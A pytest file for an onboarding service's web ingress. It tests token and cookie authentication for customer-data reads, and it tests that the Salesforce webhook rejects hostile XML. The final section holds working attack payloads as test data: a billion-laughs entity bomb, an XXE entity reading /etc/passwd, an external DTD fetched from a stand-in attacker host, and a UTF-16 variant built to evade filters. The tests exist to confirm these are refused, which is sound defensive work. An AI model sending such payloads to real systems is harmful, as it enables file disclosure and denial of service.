"""What is private stays private: reads of customer data need a token or the sign-in
cookie (one scheme with the codec endpoint), and untrusted XML cannot expand entities or
reach files.

Status reads go through the real app to the real dev server, with a client whose
interceptor records every call that reaches Temporal.
"""

from __future__ import annotations

import os
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from unittest import mock

import httpx
import pytest
from dotenv import dotenv_values
from temporalio.client import (
    Client,
    DescribeWorkflowInput,
    Interceptor,
    OutboundInterceptor,
    QueryWorkflowInput,
)
from temporalio.testing import WorkflowEnvironment

from activities import Settings
from activities.starting import start_onboarding
from starter.app import create_app
from starter.auth import SESSION_COOKIE
from starter.crm import MalformedError, salesforce_outbound
from starter.settings import IngressSettings, ensure_local_secrets
from tests.support.deals import make_deal
from workflows.models import Playbook

TOKEN = "reader-token-new"
OLD_TOKEN = "reader-token-being-rotated-out"
OUTBOUND_TOKEN = "outbound-token"


class Recorder(Interceptor):
    """Records the workflow reads that reach Temporal through the client."""

    def __init__(self) -> None:
        self.calls: list[str] = []

    def intercept_client(self, next: OutboundInterceptor) -> OutboundInterceptor:
        calls = self.calls

        class Recording(OutboundInterceptor):
            async def query_workflow(self, input: QueryWorkflowInput) -> Any:
                calls.append(f"query {input.id}")
                return await super().query_workflow(input)

            async def describe_workflow(self, input: DescribeWorkflowInput) -> Any:
                calls.append(f"describe {input.id}")
                return await super().describe_workflow(input)

        return Recording(next)


@pytest.fixture
async def onboarded(dev_env: WorkflowEnvironment, dev_worker: Settings, playbook: Playbook) -> str:
    deal = make_deal(account_name="Private Co", close_date=datetime.now(UTC))
    await start_onboarding(dev_env.client, deal, playbook)
    return deal.account_id


@pytest.fixture
def recorder() -> Recorder:
    return Recorder()


async def ingress(
    dev_env: WorkflowEnvironment, recorder: Recorder, **settings: Any
) -> httpx.AsyncClient:
    config = dev_env.client.config()
    config["interceptors"] = [recorder]
    app = create_app(IngressSettings.model_validate(settings), Client(**config))
    return httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://localhost")


@pytest.fixture
async def http(
    dev_env: WorkflowEnvironment, recorder: Recorder
) -> AsyncIterator[httpx.AsyncClient]:
    client = await ingress(dev_env, recorder, api_tokens=f"{TOKEN},{OLD_TOKEN}")
    async with client:
        yield client


@pytest.mark.parametrize(
    ("authorization", "reason"),
    [
        (None, "missing"),
        ("Bearer guessed", "not a valid token"),
        (f"Basic {TOKEN}", "expected `Bearer <token>`"),
    ],
)
async def test_an_unauthenticated_read_is_401_and_costs_temporal_nothing(
    http: httpx.AsyncClient,
    recorder: Recorder,
    onboarded: str,
    authorization: str | None,
    reason: str,
) -> None:
    headers = {"Authorization": authorization} if authorization else {}
    for account in (onboarded, "some-other-crm-id"):
        response = await http.get(f"/accounts/{account}", headers=headers)
        assert response.status_code == 401
        body = response.json()
        assert (body["error"], body["field"]) == ("unauthorized", "Authorization")
        assert reason in body["reason"]
        assert "Private Co" not in response.text
    assert recorder.calls == []  # no query, no describe: guessing ids costs Temporal nothing


async def test_a_token_reads_and_either_token_works_during_rotation(
    http: httpx.AsyncClient, recorder: Recorder, onboarded: str
) -> None:
    for token in (TOKEN, OLD_TOKEN):
        response = await http.get(
            f"/accounts/{onboarded}", headers={"Authorization": f"Bearer {token}"}
        )
        assert response.status_code == 200, response.text
        assert response.json()["account_name"] == "Private Co"
    assert recorder.calls.count(f"query onboarding-{onboarded}") == 2


async def test_the_sign_in_cookie_reads_in_a_browser(
    http: httpx.AsyncClient, onboarded: str
) -> None:
    signed_in = await http.post("/codec/login", data={"token": TOKEN})
    assert signed_in.status_code == 200
    assert http.cookies.get(SESSION_COOKIE)
    assert TOKEN not in signed_in.headers["set-cookie"]

    response = await http.get(f"/accounts/{onboarded}")  # the cookie, no header

    assert response.status_code == 200, response.text
    assert response.json()["account_name"] == "Private Co"


async def test_the_codec_tokens_setting_still_works_for_both(
    dev_env: WorkflowEnvironment,
    dev_worker: Settings,
    recorder: Recorder,
    onboarded: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.delenv("ONBOARDING_API_TOKENS", raising=False)
    monkeypatch.setenv("ONBOARDING_CODEC_AUTH_TOKENS", OLD_TOKEN)
    assert [t.get_secret_value() for t in IngressSettings().api_tokens] == [OLD_TOKEN]
    config = dev_env.client.config()
    app = create_app(IngressSettings(), Client(**config))
    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(app=app), base_url="http://localhost"
    ) as client:
        read = await client.get(
            f"/accounts/{onboarded}", headers={"Authorization": f"Bearer {OLD_TOKEN}"}
        )
        decode = await client.post(
            "/codec/decode", json={"payloads": []}, headers={"Authorization": "Bearer x"}
        )
    assert read.status_code == 200
    assert decode.status_code == 401  # the same tokens guard the codec


async def test_with_no_token_configured_nobody_reads(
    dev_env: WorkflowEnvironment, recorder: Recorder, onboarded: str
) -> None:
    async with await ingress(dev_env, recorder) as client:
        response = await client.get(
            f"/accounts/{onboarded}", headers={"Authorization": "Bearer anything"}
        )
    assert response.status_code == 503
    assert response.json()["field"] == "ONBOARDING_API_TOKENS"
    assert recorder.calls == []


def test_onboarding_up_makes_a_local_token_once_and_keeps_it(tmp_path: Path) -> None:
    path = tmp_path / "ingress-secrets.env"
    # `ensure_local_secrets` exports what it makes: keep it from leaking into other tests.
    others = {k: v for k, v in os.environ.items() if not k.startswith("ONBOARDING_")}
    with mock.patch.dict(os.environ, others, clear=True):
        assert "ONBOARDING_API_TOKENS" in ensure_local_secrets(path)
        token = dotenv_values(path)["ONBOARDING_API_TOKENS"]
        assert token and os.environ["ONBOARDING_API_TOKENS"] == token
        assert (path.stat().st_mode & 0o777) == 0o600

        del os.environ["ONBOARDING_API_TOKENS"]
        ensure_local_secrets(path)  # the next `onboarding up`
        assert os.environ["ONBOARDING_API_TOKENS"] == token

    # Set under the older name, it needs no local one.
    with mock.patch.dict(os.environ, others | {"ONBOARDING_CODEC_AUTH_TOKENS": "x"}, clear=True):
        assert "ONBOARDING_API_TOKENS" not in ensure_local_secrets(tmp_path / "other.env")


# --------------------------------------------------------------------------- untrusted XML

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE notifications [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<notifications xmlns="http://soap.sforce.com/2005/09/outbound">
 <OrganizationId>&lol3;</OrganizationId>
</notifications>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE notifications [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<notifications xmlns="http://soap.sforce.com/2005/09/outbound">
 <OrganizationId>&secret;</OrganizationId>
</notifications>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE notifications SYSTEM "http://attacker.example/evil.dtd">
<notifications xmlns="http://soap.sforce.com/2005/09/outbound"/>"""

HOSTILE_XML = {
    "billion-laughs": BILLION_LAUGHS,
    "external-entity": EXTERNAL_ENTITY,
    "external-dtd": EXTERNAL_DTD,
    # UTF-16 hides `<!DOCTYPE` from a byte-level pattern; the parser still reads it.
    "billion-laughs-utf16": BILLION_LAUGHS.decode()
    .replace('"1.0"', '"1.0" encoding="UTF-16"')
    .encode("utf-16"),
}


@pytest.mark.parametrize("body", HOSTILE_XML.values(), ids=HOSTILE_XML.keys())
def test_dtds_and_entities_are_refused_before_anything_expands(body: bytes) -> None:
    with pytest.raises(MalformedError) as err:
        salesforce_outbound(body, [], ["Closed Won"])
    assert err.value.field == "body"
    assert "DOCTYPE and ENTITY declarations are not accepted" in err.value.reason


@pytest.fixture
async def outbound(dev_env: WorkflowEnvironment, recorder: Recorder) -> AsyncIterator[Any]:
    client = await ingress(dev_env, recorder, salesforce_outbound_tokens=OUTBOUND_TOKEN)
    async with client:

        async def post(body: bytes) -> httpx.Response:
            url = f"/webhooks/salesforce/outbound?token={OUTBOUND_TOKEN}"
            return await client.post(url, content=body, headers={"content-type": "text/xml"})

        yield post


@pytest.mark.parametrize("body", HOSTILE_XML.values(), ids=HOSTILE_XML.keys())
async def test_hostile_outbound_messages_are_400_naming_why(outbound: Any, body: bytes) -> None:
    response = await outbound(body)
    assert response.status_code == 400
    answer = response.json()
    assert (answer["error"], answer["field"]) == ("malformed", "body")
    assert "DOCTYPE" in answer["reason"]
    assert "root:" not in response.text  # nothing of /etc/passwd


async def test_malformed_xml_is_400_naming_where(outbound: Any) -> None:
    response = await outbound(b"<notifications><OrganizationId>x</notifications>")
    assert response.status_code == 400
    assert "not well-formed XML: mismatched tag: line 1" in response.json()["reason"]
